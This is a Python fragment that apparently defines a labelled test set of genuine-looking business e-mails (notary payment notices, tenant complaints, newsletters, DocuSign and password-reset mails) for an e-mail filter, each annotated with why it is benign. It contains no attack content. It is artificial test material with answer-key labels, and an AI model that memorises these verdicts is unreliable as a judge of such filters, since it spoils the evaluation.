  frm=("Notariat Dr. Kessler & Partner", "sekretariat@kessler-notare.de"), to=[S["legal"]], cc=[S["cfo"]],
  dt="2026-11-20 14:26:13", mx=EXO("EUR04-FR2", "fr2deu04on2118", "40.107.135.118"), client="exo", up=[U_exo()], auto_html="exo",
  subject="UR-Nr. 1842/2026 K – Kaufvertrag Eschborn Süd – Fälligkeitsmitteilung",
  text="""Sehr geehrte Frau Neumann,

in der Kaufvertragsangelegenheit Eschborn Süd GmbH & Co. KG ./. Example Group Real Estate GmbH (UR-Nr. 1842/2026 K) teile ich Ihnen mit, dass die Fälligkeitsvoraussetzungen gemäß § 4.2 des Kaufvertrags vorliegen:

– die Auflassungsvormerkung ist im Grundbuch von Eschborn, Blatt 8841, eingetragen,
– das Negativattest der Stadt Eschborn zum gemeindlichen Vorkaufsrecht liegt vor,
– die Löschungsunterlagen der Landesbank Baden-Württemberg liegen mir unter Treuhandauflagen vor.

Der Kaufpreis ist damit innerhalb von zehn Bankarbeitstagen nach Zugang dieser Mitteilung, spätestens am 04.12.2026, wie folgt zu zahlen:

a) Ablösebetrag an die Landesbank Baden-Württemberg: 5.275.000,00 €
   IBAN %s, Verwendungszweck: Darl. 7402188330 / Eschborn Süd
b) Restkaufpreis an die Verkäuferin: 17.850.000,00 €
   IBAN %s (Helaba), Verwendungszweck: UR 1842/2026 K

Die förmliche Fälligkeitsmitteilung geht Ihnen heute zusätzlich per Post zu; die Kontoverbindungen entsprechen § 4.3 des Kaufvertrags. Für Rückfragen erreichen Sie Herrn Notar Dr. Kessler unter 069 9712 4400.

Mit freundlichen Grüßen

Birgit Hahn
Notarfachangestellte
Notariat Dr. Kessler & Partner
Bockenheimer Anlage 44 | 60322 Frankfurt am Main
""" % (fi(LBBW_DE), fi(SELLER_DE)),
  atts=[pdf("UR_1842-2026_K_Faelligkeitsmitteilung.pdf", "Faelligkeitsmitteilung UR-Nr. 1842/2026 K",
            ["Kaufvertrag vom 15.10.2026 - Eschborn Sued", "a) LBBW Abloesung 5.275.000,00 EUR - " + fi(LBBW_DE),
             "b) Verkaeuferin 17.850.000,00 EUR - " + fi(SELLER_DE), "Zahlbar bis 04.12.2026", "Dr. Kessler, Notar"], "Notariat Dr. Kessler", when="20261120141500+01'00'")],
  what="Genuine notary 'Fälligkeitsmitteilung' for a €23m purchase price with two IBANs – a large, urgent payment request by e-mail.",
  why="Genuine: known notary of the transaction, IBANs match the purchase contract (§ 4.3), postal original, direct payment (no escrow account), normal 10-day period – hard case for content filters.")

M(kind=B, slug="mieter-beschwerde-heizung", lang="de", cs="iso-8859-1", cte="quoted-printable",
  frm=("Horst Wendler", "h.wendler@t-online.de"), to=[S["pm"]],
  dt="2026-11-16 08:03:29", mx=TONLINE, client="generic", msgid_domain="email.t-online.de",
  up=[U_sa("fwd77.aul.t-online.de", "79.243.12.98", "p4ff30c62.dip0.t-ipconnect.de", helo="[79.243.12.98]", soft="T-Online")],
  subject="Heizung Berger Straße 211, 3. OG links seit Freitag kalt - Mietminderung",
  text="""Sehr geehrte Frau Fischer,

seit Freitag, dem 13.11., ist die Heizung in unserer Wohnung (Berger Straße 211, 3. OG links) komplett ausgefallen. Die Heizkörper bleiben kalt, warmes Wasser gibt es nur noch zeitweise.

Ich habe am Samstag und am Sonntag den Notdienst unter der Nummer im Treppenhaus angerufen. Am Samstag hieß es, man komme "im Laufe des Tages", gekommen ist niemand. Am Sonntag ging gar keiner mehr ran.

Meine Frau ist 81 Jahre alt und herzkrank, wir sitzen mit Wolldecken und einem geliehenen Heizlüfter im Wohnzimmer. Das ist so nicht hinnehmbar.

Ich fordere Sie auf, den Schaden bis spätestens Mittwoch, 18.11., beheben zu lassen. Andernfalls werde ich die Miete gemäß § 536 BGB mindern und den Mieterverein einschalten. Die Stromkosten für den Heizlüfter werde ich Ihnen in Rechnung stellen.

Bitte rufen Sie mich an: 069 45 31 87.

Mit freundlichen Grüßen
Horst Wendler
""",
  what="Angry residential tenant complaint (heating failure, threat of rent reduction) from a private T-Online address.",
  why="Genuine customer complaint: private ISP mailbox, specific flat and dates, no links/attachments/payment data – must reach the property manager despite the harsh tone.")

M(kind=B, slug="newsletter-immobilienbrief-cleverreach", lang="de", cs="utf-8", cte="quoted-printable",
  frm=("Immobilienbrief Rhein-Main", "newsletter@immobilienbrief-rheinmain.de"), to=[S["lease"]],
  rp="bounce-1122334-59871-michael.braun=example.com@crsend.com",
  dt="2026-11-12 06:30:00", mx=("mta-87-72.crsend.com", "mta-87-72.crsend.com", "46.243.87.72"), client="bulk", msgid_domain="crsend.com",
  headers=["List-Unsubscribe: <https://seu2.cleverreach.com/rmftlp.php?cid=59871&c=1122334&m=8830124&s=a1b2c3>, <mailto:unsubscribe-1122334-59871@crsend.com>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: CleverReach (https://www.cleverreach.com)"],
  subject="Büromarkt Frankfurt Q3: Flächenumsatz +12 %, Leerstand stagniert bei 9,8 %",
  html=newsletter("Immobilienbrief Rhein-Main", "#1d4e89", "Ausgabe 45/2026 · Donnerstag, 12. November 2026",
                  "Guten Morgen, hier die wichtigsten Meldungen aus dem Immobilienmarkt Rhein-Main.",
                  [("Büromarkt Frankfurt: Flächenumsatz im dritten Quartal deutlich über Vorjahr", "Getrieben von Großabschlüssen im Bankenviertel stieg der Flächenumsatz um 12 Prozent; die Leerstandsquote verharrt bei 9,8 Prozent.", "https://www.immobilienbrief-rheinmain.de/buero/q3-2026?utm_source=newsletter&utm_medium=email&utm_campaign=45-2026"),
                   ("Grundsteuer: Frankfurt beschließt aufkommensneutralen Hebesatz für 2027", "Die Stadtverordnetenversammlung hat den Hebesatz nach der Reform erneut angepasst. Was Vermieter für die Betriebskostenabrechnung wissen müssen.", "https://www.immobilienbrief-rheinmain.de/recht/grundsteuer-hebesatz-2027?utm_source=newsletter"),
                   ("Eschborn: Bürokomplex an Versorgungswerk verkauft", "Nach Marktinformationen wechselt ein Teilportfolio im Gewerbegebiet Süd den Eigentümer.", "https://www.immobilienbrief-rheinmain.de/transaktionen/eschborn-sued?utm_source=newsletter"),
                   ("Veranstaltung: Jahresauftakt Immobilienwirtschaft am 21. Januar", "Jetzt anmelden – Frühbucherpreis bis 15. Dezember.", "https://www.immobilienbrief-rheinmain.de/events/jahresauftakt-2027")],
                  ("Immobilienbrief Rhein-Main · Verlag Mainmedien GmbH · Hanauer Landstraße 136 · 60314 Frankfurt am Main<br>Sie erhalten diesen Newsletter, weil Sie ihn mit michael.braun@example.com abonniert haben.", "Newsletter abbestellen"),
                  "de", "https://seu2.cleverreach.com/rmftlp.php?cid=59871&c=1122334&m=8830124&s=a1b2c3"),
  what="Subscribed regional real-estate newsletter sent via CleverReach with List-Unsubscribe/One-Click.",
  why="Genuine opt-in newsletter from an established ESP with proper bounce handling and unsubscribe headers; topics match the recipient's job.")

M(kind=B, slug="immoscout24-passwort-zuruecksetzen", lang="de", cs="utf-8", cte="base64",
  frm=("ImmoScout24", "noreply@immobilienscout24.de"), to=[S["lease"]],
  rp="01070193c7e2a4b1-8f2c41d0-6a3b-4c1e-9d72-1b5e8f0a3c47-000000@eu-central-1.amazonses.com",
  dt="2026-11-24 10:42:51", mx=("a48-111.smtp-out.eu-central-1.amazonses.com", "a48-111.smtp-out.eu-central-1.amazonses.com", "54.240.48.111"), client="ses",
  subject="Passwort zurücksetzen",
  html=notif("ImmoScout24", "#3c3c3c",
             "<p>Hallo Michael Braun,</p><p>Sie haben am 24.11.2026 um 10:42 Uhr angefordert, das Passwort für Ihr ImmoScout24-Konto zurückzusetzen.</p>"
             "<p>Klicken Sie auf den folgenden Button, um ein neues Passwort zu vergeben. Der Link ist 60 Minuten gültig.</p>",
             ("Neues Passwort vergeben", "https://sso.immobilienscout24.de/sso/password/reset?token=7f3c9a1e2b5d4c8f"),
             "Sie haben kein neues Passwort angefordert? Dann können Sie diese E-Mail ignorieren, Ihr Passwort bleibt unverändert.<br>"
             "Immobilien Scout GmbH · Invalidenstraße 65 · 10557 Berlin · Amtsgericht Charlottenburg HRB 80246 B", "de",
             '<span style="color:#00d9b1">Immo</span>Scout24'),
  what="Genuine ImmoScout24 password-reset e-mail requested by the leasing head, via Amazon SES, link on sso.immobilienscout24.de.",
  why="Genuine transactional mail: brand's real domain and ESP, user-initiated (timestamp), 'ignore if not you', no threat.")

M(kind=B, slug="mainova-zahlungserinnerung-allgemeinstrom", lang="de", cs="iso-8859-15", cte="base64",
  frm=("Mainova AG Kundenservice", "kundenservice@mainova.de"), to=[S["fm"]],
  dt="2026-11-23 07:12:05", mx=("mailout2.mainova.de", "mailout2.mainova.de", "213.61.185.34"), client="generic",
  subject="Zahlungserinnerung - Vertragskonto 2100 4471 8823 - Allgemeinstrom Berger Straße 211",
  text="""Sehr geehrte Damen und Herren,

bei der Durchsicht unserer Buchhaltung haben wir festgestellt, dass folgender Betrag noch nicht bei uns eingegangen ist:

Vertragskonto: 2100 4471 8823
Abnahmestelle: Berger Straße 211, 60385 Frankfurt am Main (Allgemeinstrom Treppenhaus/Aufzug)
Abschlag Oktober 2026: 386,00 €
fällig seit: 15.10.2026

Sicher handelt es sich nur um ein Versehen. Bitte überweisen Sie den Betrag bis zum 30.11.2026 auf unser Konto
IBAN %s, Verwendungszweck: 210044718823

oder erteilen Sie uns bequem ein SEPA-Lastschriftmandat im Kundenportal.

Sollten Sie die Zahlung bereits veranlasst haben, betrachten Sie dieses Schreiben bitte als gegenstandslos.

Freundliche Grüße
Ihr Mainova Kundenservice

Mainova AG · Solmsstraße 38 · 60486 Frankfurt am Main
""" % fi(MAINOVA_DE),
  what="Utility payment reminder for common-area electricity of a managed building.",
  why="Genuine reminder: small amount, contract account and meter location match the portfolio, 'ignore if already paid', no link pressure.")

# --------------------------------------------------------------- English --
HARR_MX = EXO("EUR05-AM6", "am6eur05on2131", "40.107.22.131")
M(kind=B, slug="harrington-completion-statement", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Rebecca Hale", "rebecca.hale@harringtonlaw.co.uk"), to=[S["uk_md"]], cc=[S["uk_acc"]],
  dt="2026-11-12 15:48:20", tz="+0000", mx=HARR_MX, client="exo", up=[U_exo()], auto_html="exo",
  subject="Completion – 14 Abbey Mews, London NW8 – completion statement and funds",
  text="""Dear James,

Exchange took place today at 11:42 with completion set for Friday 20 November 2026.

Please find attached our completion statement. The balance required from Example Group UK Limited is £1,186,450.00, which must reach our client account by 12 noon on Thursday 19 November so that we can send funds to the seller's solicitors first thing on the day of completion.

Our client account details are as set out in our client care letter of 2 September:

Harrington Law LLP Client Account
NatWest, sort code 60-07-15, account number 48213376
IBAN %s

Important: our bank details will not change during this transaction. If you receive any email, letter or call telling you they have changed, please do not act on it and call me on 020 7946 0321.

Before sending the full amount, please call me or my assistant to confirm the details verbally; we are also happy to receive a £1 test payment.

Kind regards,

Rebecca Hale
Partner – Real Estate
Harrington Law LLP
""" % fi(GB_HARR),
  atts=[pdf("Completion_Statement_14_Abbey_Mews.pdf", "Completion statement - 14 Abbey Mews, London NW8",
            ["Purchase price GBP 1,175,000.00", "SDLT, Land Registry fee, searches and our fees: GBP 11,450.00",
             "Balance due from you: GBP 1,186,450.00", "NatWest client account " + fi(GB_HARR)], "Harrington Law LLP", when="20261112153000Z")],
  what="Genuine solicitor's completion statement asking for £1.19m by a deadline, with the client-account IBAN.",
  why="Genuine: known law firm domain and M365 tenant, details match the client care letter, explicit anti-fraud warning and call-back request – looks like fraud to naive filters but must be delivered.")

M(kind=B, slug="microsoft-konto-passwort-geaendert", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"), to=[S["it"]],
  rp="account-security-noreply@accountprotection.microsoft.com",
  dt="2026-11-28 22:14:09", tz="+0000", mx=("NAM12-DM6-obe.outbound.protection.outlook.com", "mail-dm6nam12on2072.outbound.protection.outlook.com", "40.107.243.72"), client="generic",
  msgid_domain="BY3PEPF0000BE7A.namprd02.prod.outlook.com", up=[U_exo()],
  subject="Microsoft account password change",
  html=notif("Microsoft account", "#0067b8",
             "<p style='font-size:28px;color:#0067b8;margin:0 0 16px 0'>Your password changed</p>"
             "<p>The password for the Microsoft account <a href='mailto:to*****@example.com'>to*****@example.com</a> was changed.</p>"
             "<p>If this was you, you can safely ignore this email.</p>"
             "<p>If this wasn't you, your account has been compromised. Please follow these steps:</p>"
             "<ol><li><a href='https://account.live.com/password/reset'>Reset your password.</a></li>"
             "<li><a href='https://account.live.com/proofs/Manage'>Review your security info.</a></li>"
             "<li><a href='https://go.microsoft.com/fwlink/?LinkID=324392'>Learn how to make your account more secure.</a></li></ol>"
             "<p>You can also <a href='https://go.microsoft.com/fwlink/?LinkID=398707'>opt out</a> or change where you receive security notifications.</p>"
             "<p>Thanks,<br>The Microsoft account team</p>",
             None, "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", "en"),
  what="Genuine Microsoft account security notification (password changed) to the Head of IT's MSA registered with his work address.",
  why="Genuine: Microsoft's real sending domain and infrastructure, links only to account.live.com / go.microsoft.com, user-initiated event, no credential form.")

M(kind=B, slug="newsletter-block-management-mailchimp", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Block Management Briefing", "hello@blockmanagementbriefing.co.uk"), to=[S["uk_md"]],
  rp="bounce-mc.us21_148221907.7730412-james.whitfield=example.com@mail188.atl221.mcdlv.net",
  dt="2026-11-19 07:00:12", tz="+0000", mx=("mail188.atl221.mcdlv.net", "mail188.atl221.mcdlv.net", "198.2.188.221"), client="mailchimp",
  headers=["List-Unsubscribe: <https://blockmanagementbriefing.us21.list-manage.com/unsubscribe?u=3f1c2a9b&id=77c0e1&e=4b2d&c=9a1f>, <mailto:unsubscribe-mc.us21_3f1c2a9b.9a1f-4b2d@unsubscribe.mailchimpapp.net>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: 3f1c2a9b mc list <3f1c2a9b.blockmanagementbriefing.us21.list-id.mcsv.net>"],
  subject="Building Safety Act: new duties for accountable persons – what managing agents need to do before April 2027",
  html=newsletter("Block Management Briefing", "#2a5d84", "Issue 212 · Thursday 19 November 2026",
                  "Good morning. This week: building safety regulator updates, service charge transparency and the latest tribunal decisions.",
                  [("Building Safety Act: accountable persons face new reporting duties", "The regulator has confirmed the timetable for mandatory occurrence reporting in higher-risk buildings. Our checklist for managing agents.", "https://blockmanagementbriefing.us21.list-manage.com/track/click?u=3f1c2a9b&id=a1"),
                   ("Service charges: standardised demand forms consultation closes 15 December", "What the proposed forms under the Leasehold and Freehold Reform Act 2024 mean for your year-end demands.", "https://blockmanagementbriefing.us21.list-manage.com/track/click?u=3f1c2a9b&id=a2"),
                   ("Tribunal round-up: insurance commissions and section 20 dispensation", "Three recent First-tier Tribunal decisions every property manager should read.", "https://blockmanagementbriefing.us21.list-manage.com/track/click?u=3f1c2a9b&id=a3")],
                  ("Block Management Briefing Ltd · 41 Great Suffolk Street · London SE1 0BS<br>You are receiving this because you subscribed at blockmanagementbriefing.co.uk.", "Unsubscribe · Update preferences"),
                  "en", "https://blockmanagementbriefing.us21.list-manage.com/unsubscribe?u=3f1c2a9b&id=77c0e1"),
  what="Subscribed UK block-management trade newsletter sent via Mailchimp.",
  why="Genuine opt-in bulk mail: Mailchimp infrastructure and headers, List-Unsubscribe, relevant professional content.")

M(kind=B, slug="mieterin-service-charge-dispute", lang="en", cs="iso-8859-1", cte="quoted-printable",
  frm=("Priya Raman", "priya.raman@btinternet.com"), to=[S["uk_acc"]],
  dt="2026-11-16 19:37:44", tz="+0000", mx=("sa-prd-fep-043.btinternet.com", "sa-prd-fep-043.btinternet.com", "213.120.69.103"), client="thunderbird", msgid_domain="btinternet.com",
  up=[U_sa("sa-prd-rgout-005.btmx-prd.synchronoss.net", "86.155.44.219", "host86-155-44-219.range86-155.btcentralplus.com", soft="Synchronoss")],
  subject="Service charge demand - Flat 9, Wharfside Court - disputed items",
  text="""Dear Ms Collins,

I refer to your reminder dated 10 November regarding the outstanding balance of £2,347.18 on my service charge account for Flat 9, Wharfside Court.

I am not refusing to pay, but I dispute two items in the 2025/26 year-end account:

1. £640.00 (my share) for "major works consultancy". As far as I am aware no section 20 consultation notice was ever served for the roof works.

2. The 38% increase in the buildings insurance contribution, for which no explanation or breakdown of commission has been provided.

Under section 21 of the Landlord and Tenant Act 1985 I request a written summary of the relevant costs, and I would also like to inspect the supporting invoices.

In the meantime I will pay the undisputed portion of £1,412.50 by bank transfer this week, using my usual reference. Please do not refer the account to debt collection while the dispute is open.

Yours sincerely,

Priya Raman
Flat 9, Wharfside Court
London E14
""",
  what="Leaseholder disputing service-charge items, citing statutory rights, from a private BT Internet address.",
  why="Genuine customer complaint with amounts and legal references; no links, no requests for credentials or changed bank details.")

M(kind=B, slug="kollegin-privat-gmail-aged-debtors", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Sarah Collins", "sarahcollins.ldn@gmail.com"), to=[S["cfo"]],
  dt="2026-12-01 17:55:31", tz="+0000", mx=GM("wm1-f53", "209.85.128.53"), client="gmail", auto_html="gmail",
  up=[U_gmail("mail-wm1-f53.google.com")],
  subject="Aged debtors UK – November (sent from my personal email)",
  text="""Hi Claudia,

Apologies for the personal address – my laptop is with IT for the BitLocker issue and the loaner won't accept my Authenticator yet (Felix is on it).

Attached is the aged debtors report for the UK portfolio as at 30 November, as promised for tomorrow's call. Headlines:

- total arrears £184,230 (down from £211k in October)
- Wharfside Court still the largest item; Flat 9 (Ms Raman) has paid the undisputed part, the rest is in dispute pending the s.21 summary
- two commercial tenants at Abbey Mews on payment plans, both on track

Nothing needed from you before the call. I'll re-send it from my work account once I have my laptop back so it's on file properly.

Best,
Sarah
""",
  atts=[pdf("Aged_Debtors_UK_2026-11-30.pdf", "Example Group UK - Aged debtors as at 30/11/2026",
            ["Total arrears: GBP 184,230", "0-30 days: GBP 61,420", "31-90 days: GBP 79,115", "> 90 days: GBP 43,695"], "Sarah Collins", "Microsoft Excel", "20261201174900Z")],
  what="UK colleague sends a report from her private Gmail because her laptop is with IT.",
  why="Genuine: explains the private address with verifiable detail, no request for money, credentials or data, content consistent with other mail (tenant dispute); must not be blocked as 'executive impersonation'.")

M(kind=B, slug="intern-it-mfa-umstellung", lang="en", cs="utf-8", cte="quoted-printable",
  frm=S["it"], to=[S["it_cm"]],
  dt="2026-11-10 16:30:12", mx=INTERNAL, client="exchange-int", up=[U_int()], auto_html="exo",
  subject="MFA migration to Microsoft Authenticator / passkeys – schedule and what to expect",
  text="""Dear colleagues,

Between 16 and 27 November we are moving all Example Group accounts from SMS codes to Microsoft Authenticator with number matching (and passkeys on devices that support them).

What happens:
- At your next sign-in after your office's date, Microsoft will show a prompt "More information required". Follow it on your PC and set up the Authenticator app on your company phone.
- You do not need to do anything before that date, and there is nothing to install in advance.

Schedule: Frankfurt 16.11 · Milan and Madrid 18.11 · Warsaw and Athens 20.11 · London 23.11 · Moscow 25.11

Important: IT will never send you a QR code by e-mail, never ask you to enter a code on microsoft.com/devicelogin that someone else has given you, and never threaten to lock your account by a deadline. If you receive such a message, please use the "Report" button in Outlook.

Questions: Service Desk, ext. 2222 or servicedesk@example.com.

Best regards
Tobias Lang
Head of IT | Example Group
""",
  what="Internal IT announcement of the MFA migration, sent to all staff (here: the Milan country manager) via the internal relay.",
  why="Genuine internal mail through mail-int01; mentions MFA, QR codes and devicelogin in a warning context – keyword-based filters must not block it.")

M(kind=B, slug="rightmove-neue-anfrage", lang="en", cs="utf-8", cte="base64",
  frm=("Rightmove", "leads@rightmove.co.uk"), to=[S["uk_md"]],
  rp="0102019b3c1d7e2a-5e7f9a10-2c3d-4e5f-8a9b-0c1d2e3f4a5b-000000@eu-west-2.amazonses.com",
  dt="2026-11-21 10:08:47", tz="+0000", mx=("e242-8.smtp-out.eu-west-2.amazonses.com", "e242-8.smtp-out.eu-west-2.amazonses.com", "23.251.242.8"), client="ses",
  subject="New enquiry: 2 bed flat, Wharfside Court, London E14 – ref 158734922",
  html=notif("rightmove", "#00deb6",
             "<p>You have a new enquiry for <b>2 bedroom flat to rent, Wharfside Court, London E14</b> (ref 158734922).</p>"
             "<table cellpadding='4'><tr><td><b>Name</b></td><td>Tom Ellery</td></tr><tr><td><b>Email</b></td><td>tom.ellery@outlook.com</td></tr>"
             "<tr><td><b>Phone</b></td><td>07700 900418</td></tr><tr><td><b>Moving date</b></td><td>January 2027</td></tr></table>"
             "<p><b>Message:</b><br>Hi, I'm interested in viewing this flat on Saturday 28th if possible. I work in Canary Wharf and am looking to move in early January. Is parking included? Thanks, Tom</p>",
             ("View in Rightmove Plus", "https://www.rightmove.co.uk/plus/leads/158734922"),
             "Rightmove Group Limited, 2 Caldecotte Lake Business Park, Milton Keynes MK7 8LE", "en",
             '<span style="color:#262637">rightmove</span>').replace("color:#ffffff;font-weight:bold", "color:#262637;font-weight:bold"),
  what="Genuine Rightmove lead notification (prospective tenant enquiry) via Amazon SES.",
  why="Genuine: portal's real domain, link to rightmove.co.uk, ordinary enquiry data, expected by leasing.")

M(kind=B, slug="docusign-tr1-harrington", lang="en", cs="utf-8", cte="quoted-printable",
  frm=("Harrington Law LLP via Docusign", "dse@eumail.docusign.net"), to=[S["uk_md"]],
  reply_to=("Rebecca Hale", "rebecca.hale@harringtonlaw.co.uk"), rp="bounces@eumail.docusign.net",
  dt="2026-11-13 10:27:05", tz="+0000", mx=("mailfr1.eumail.docusign.net", "mailfr1.eumail.docusign.net", "185.81.100.60"), client="generic", msgid_domain="eumail.docusign.net",
  subject="Please DocuSign: TR1 Transfer – 14 Abbey Mews NW8.pdf",
  html=notif("Docusign", "#1e1e1e",
             "<p style='font-size:16px'>Harrington Law LLP sent you a document to review and sign.</p>"
             "<p><b>Rebecca Hale</b><br>rebecca.hale@harringtonlaw.co.uk</p>"
             "<p>Dear James, please review and sign the TR1 for 14 Abbey Mews on behalf of Example Group UK Limited. Your signature will need to be witnessed – please follow the witness step in the envelope. Kind regards, Rebecca</p>",
             ("REVIEW DOCUMENT", "https://eu.docusign.net/Signing/EmailStart.aspx?a=7c1e9f30-4b2a-4d6e-a8f1-2c3b4d5e6f70&etti=24&acct=a1b2c3d4-0000-4a5b-9c8d-112233445566&er=0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b"),
             "<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>"
             "<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: 7C1E9F304B2A4D6EA8F12C3B4D5E6F702<br><br>"
             "This message was sent to you by Rebecca Hale who is using the Docusign Electronic Signature Service.", "en"),
  what="Genuine DocuSign envelope from the UK solicitors (transfer deed TR1) for the completion.",
  why="Genuine: DocuSign's real domain/infrastructure, links to eu.docusign.net, sender and Reply-To match the known solicitor and the ongoing transaction – a lure-like template that must pass.")

# --------------------------------------------------------------- Italian --
FERR_MX = ("smtpcmd04.ad.aruba.it", "smtpcmd04.ad.aruba.it", "62.149.156.154", "tls12")
M(kind=B, slug="ferretti-fattura-copia-cortesia", lang="it", cs="iso-8859-15", cte="quoted-printable",
  frm=("Ferretti Trasporti S.p.A. - Amministrazione", "amministrazione@ferretti-trasporti.it"), to=[S["it_acc"]],
  dt="2026-11-05 12:18:40", mx=FERR_MX, client="outlook", msgid_domain="ferretti-trasporti.it",
  up=[U_sa("smtpcmd04.ad.aruba.it", "151.38.122.17", "ppp-17-122.38-151.wind.it", soft="Aruba")],
  subject="Copia di cortesia fattura n. 1187/2026 del 05/11/2026",
  text="""Spett.le Example Group Italia S.r.l.,

in allegato trasmettiamo copia di cortesia della fattura elettronica n. 1187/2026 del 05/11/2026, relativa al trasloco dell'archivio da via Tortona 27 al magazzino di Rozzano (ordine del 21/10/2026).

La fattura è stata trasmessa al Sistema di Interscambio (identificativo SdI 12847731902); l'originale è disponibile nel Suo cassetto fiscale.

Imponibile: € 6.000,00
IVA 22%%: € 1.320,00
Totale: € 7.320,00

Pagamento: bonifico bancario a 30 gg data fattura fine mese sul consueto conto Intesa Sanpaolo
IBAN %s

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 14 - 20098 San Giuliano Milanese (MI)
P.IVA %s
""" % (fi(FERR_IT), IT_PIVA_FER),
  atts=[pdf("Fattura_1187_2026.pdf", "Ferretti Trasporti S.p.A. - Fattura n. 1187/2026",
            ["Cliente: Example Group Italia S.r.l. - P.IVA " + IT_PIVA_EXG, "Trasloco archivio via Tortona 27 - Rozzano",
             "Imponibile EUR 6.000,00  IVA 22% EUR 1.320,00  Totale EUR 7.320,00", "IBAN " + fi(FERR_IT), "Identificativo SdI 12847731902"], "Ferretti Trasporti", when="20261105120000+01'00'")],
  what="Courtesy copy of an Italian e-invoice (SdI) from Ferretti Trasporti's administration, usual Intesa Sanpaolo account.",
  why="Genuine: correct .it domain on its Aruba mail server, SdI reference, expected service, unchanged IBAN.")

M(kind=B, slug="ferretti-sollecito-pagamento", lang="it", cs="utf-8", cte="quoted-printable",
  frm=("Chiara Colombo", "c.colombo@ferretti-trasporti.it"), to=[S["it_acc"]], cc=[S["it_cm"]],
  dt="2026-11-24 09:40:22", mx=FERR_MX, client="outlook", msgid_domain="ferretti-trasporti.it",
  up=[U_sa("smtpcmd04.ad.aruba.it", "151.38.122.17", "ppp-17-122.38-151.wind.it", soft="Aruba")],
  subject="Sollecito pagamento fatture scadute – Example Group Italia S.r.l.",
  text="""Buongiorno dott. Bianchi,

dal nostro estratto conto risultano ancora aperte le seguenti fatture:

– n. 0974/2026 del 15/09/2026, € 4.270,00, scaduta il 31/10/2026
– n. 1032/2026 del 30/09/2026, € 1.830,00, scaduta il 31/10/2026

Le saremmo grati se potesse verificare e disporre il pagamento sul consueto conto Intesa Sanpaolo indicato in fattura. Se il pagamento è già stato effettuato, La prego di inviarci la contabile, così possiamo riconciliare.

Per l'organizzazione del trasloco dell'archivio di via Tortona del 3 dicembre La ricontatterò separatamente con la dott.ssa Romano.

Cordiali saluti

Chiara Colombo
Ufficio Commerciale
Ferretti Trasporti S.p.A.
Tel. 02 9824 1170
""",
  what="Genuine payment reminder (sollecito) for two overdue invoices from the known Ferretti contact.",
  why="Genuine: real domain and server, refers to the usual account, asks for remittance advice instead of new payment route.")

M(kind=B, slug="inquilino-infiltrazioni-libero", lang="it", cs="iso-8859-1", cte="quoted-printable",
  frm=("Roberta Galli", "roberta.galli@libero.it"), to=[S["it_cm"]],
  dt="2026-11-17 08:26:35", mx=("libero.it", "smtp-34.iol.local", "213.209.10.34", "tls12"), client="generic", msgid_domain="libero.it",
  headers=["X-Mailer: Libero Mail"],
  subject="Infiltrazioni d'acqua ufficio 2° piano - via Tortona 27 - URGENTE",
  text="""Gentile dott.ssa Romano,

Le scrivo in qualità di office manager della Galli & Partners, conduttrice dell'ufficio al 2° piano di via Tortona 27.

Con le piogge di domenica e lunedì si è verificata una nuova infiltrazione d'acqua dal soffitto della sala riunioni, la terza da settembre. L'acqua ha danneggiato il controsoffitto, la moquette e alcuni faldoni dell'archivio clienti. Allego alla presente le fotografie (le invio in una mail separata perché troppo pesanti).

Avevamo già segnalato il problema il 22 settembre e ci era stato assicurato un intervento sul tetto entro ottobre, che non risulta ancora eseguito.

Vi chiediamo un sopralluogo entro questa settimana, la riparazione definitiva della copertura e l'apertura del sinistro con la Vostra assicurazione per il ristoro dei danni. In mancanza di riscontro ci riserviamo ogni azione a tutela dei nostri diritti, inclusa la richiesta di riduzione del canone.

Resto in attesa di un Suo cortese riscontro.

Roberta Galli
Galli & Partners - Studio Associato
Tel. 02 4859 3321
""",
  what="Commercial tenant complaint about repeated water ingress, from a libero.it free-mail address.",
  why="Genuine complaint from a tenant's staff member; free-mail sender but no links or payment requests; must reach the property manager.")

M(kind=B, slug="aruba-pec-rinnovo-genuino", lang="it", cs="utf-8", cte="quoted-printable",
  frm=("Aruba.it", "comunicazioni@staff.aruba.it"), to=[S["it_cm"]],
  dt="2026-11-15 09:00:17", mx=("smtpweb145.aruba.it", "smtpweb145.aruba.it", "62.149.158.145"), client="bulk", msgid_domain="staff.aruba.it",
  subject="Rinnovo della casella PEC examplegroupitalia@pec.it in scadenza il 15/12/2026",
  html=notif("Aruba PEC", "#e4032e",
             "<p>Gentile Cliente,</p><p>ti ricordiamo che il servizio <b>PEC Pro</b> associato alla casella <b>examplegroupitalia@pec.it</b> scadrà il <b>15/12/2026</b>.</p>"
             "<p>Per evitare l'interruzione del servizio puoi rinnovarlo dall'Area Clienti. Se hai attivato il rinnovo automatico non devi fare nulla: l'addebito avverrà 10 giorni prima della scadenza.</p>"
             "<p>Codice cliente: 4471829 · Ordine di riferimento: MI-2025-8830124</p>",
             ("Vai all'Area Clienti", "https://managehosting.aruba.it/rinnovo-servizi.aspx"),
             "Aruba S.p.A. · Via San Clemente 53 · 24036 Ponte San Pietro (BG) · P.IVA 01573850516<br>Hai ricevuto questa email perché sei titolare di un servizio Aruba.", "it"),
  what="Genuine Aruba renewal notice for the Italian office's PEC mailbox.",
  why="Genuine: Aruba's real domain and servers, link to managehosting.aruba.it, customer/order numbers, no threat of message loss.")

M(kind=B, slug="newsletter-monitor-immobiliare", lang="it", cs="utf-8", cte="base64",
  frm=("Monitorimmobiliare", "newsletter@monitorimmobiliare.it"), to=[S["it_cm"]],
  rp="bounce-mu.51882.77310-giulia.romano=example.com@musvc2.net",
  dt="2026-11-26 07:30:00", mx=("mta-s12-14.musvc2.net", "mta-s12-14.musvc2.net", "93.188.131.14"), client="bulk", msgid_domain="musvc2.net",
